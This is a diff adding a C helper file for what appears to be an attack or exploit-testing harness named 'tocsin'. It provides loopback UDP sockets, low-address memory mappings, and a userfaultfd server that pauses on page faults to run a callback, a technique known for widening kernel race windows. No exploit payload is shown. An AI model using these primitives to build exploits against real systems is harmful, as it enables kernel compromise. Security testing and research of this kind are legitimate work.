@@ -1,0 +1,112 @@
+// SPDX-License-Identifier: Apache-2.0
+// Sockets on loopback, and memory with special manners: cold, or served by the program itself.
+
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <linux/userfaultfd.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#include "attack.h"
+
+void must(bool ok, const char *what) {
+    if (ok)
+        return;
+    perror(what);
+    exit(EXIT_FAILURE);
+}
+
+int udp_socket(void) {
+    int fd = socket(AF_INET, SOCK_DGRAM, 0);
+    must(fd >= 0, "socket");
+    return fd;
+}
+
+int receiver(struct sockaddr_in *ret_addr, const char *ip) {
+    int fd = udp_socket();
+    *ret_addr = (struct sockaddr_in){.sin_family = AF_INET};
+    inet_pton(AF_INET, ip, &ret_addr->sin_addr);
+    socklen_t len = sizeof(*ret_addr);
+    must(!bind(fd, (struct sockaddr *)ret_addr, len), "bind");
+    must(!getsockname(fd, (struct sockaddr *)ret_addr, &len), "getsockname");
+    return fd;
+}
+
+int drain(int fd) {
+    char buf[PAGE];
+    int n = 0;
+    while (recv(fd, buf, sizeof(buf), MSG_DONTWAIT) >= 0)
+        n++;
+    return n;
+}
+
+void *low_pages(size_t size) {
+    int low = sizeof(void *) == 8 ? MAP_32BIT : 0;
+    void *p = mmap(NULL, (size + PAGE - 1) / PAGE * PAGE, PROT_READ | PROT_WRITE,
+                   MAP_PRIVATE | MAP_ANONYMOUS | low, -1, 0);
+    must(p != MAP_FAILED, "mmap");
+    return p;
+}
+
+void *file_page(const void *bytes, size_t n) {
+    char path[] = "/var/tmp/tocsin-attack-XXXXXX";
+    int fd = mkstemp(path);
+    must(fd >= 0 && !unlink(path) && !ftruncate(fd, PAGE), path);
+    must(pwrite(fd, bytes, n, 0) == (ssize_t)n, "pwrite");
+    int low = sizeof(void *) == 8 ? MAP_32BIT : 0;
+    void *p = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | low, fd, 0);
+    must(p != MAP_FAILED, "mmap");
+    close(fd);
+    return p;
+}
+
+static struct {
+    int uffd;
+    unsigned n;
+    pthread_t thread;
+    void (*then)(void *arg, unsigned page);
+    void *arg;
+} server;
+
+static void *serve(void *unused) {
+    (void)unused;
+    static char zeros[PAGE] __attribute__((aligned(4096)));
+    for (unsigned page = 0; page < server.n; page++) {
+        struct uffd_msg fault;
+        if (read(server.uffd, &fault, sizeof(fault)) != sizeof(fault))
+            return NULL;
+        server.then(server.arg, page);
+        struct uffdio_copy copy = {.dst = fault.arg.pagefault.address & ~(uint64_t)(PAGE - 1),
+                                   .src = (uintptr_t)zeros,
+                                   .len = PAGE};
+        ioctl(server.uffd, UFFDIO_COPY, &copy);
+    }
+    return NULL;
+}
+
+void *served_pages(unsigned n, void (*then)(void *arg, unsigned page), void *arg) {
+    server.uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
+    must(server.uffd >= 0, "userfaultfd");
+    server.n = n;
+    server.then = then;
+    server.arg = arg;
+    struct uffdio_api api = {.api = UFFD_API};
+    void *pages = low_pages(n * PAGE);
+    struct uffdio_register reg = {.range = {(uintptr_t)pages, n * PAGE},
+                                  .mode = UFFDIO_REGISTER_MODE_MISSING};
+    must(!ioctl(server.uffd, UFFDIO_API, &api), "UFFDIO_API");
+    must(!ioctl(server.uffd, UFFDIO_REGISTER, &reg), "UFFDIO_REGISTER");
+    must(!pthread_create(&server.thread, NULL, serve, NULL), "pthread_create");
+    return pages;
+}
+
+void served_pages_join(void) {
+    pthread_join(server.thread, NULL);
+    close(server.uffd);
+}
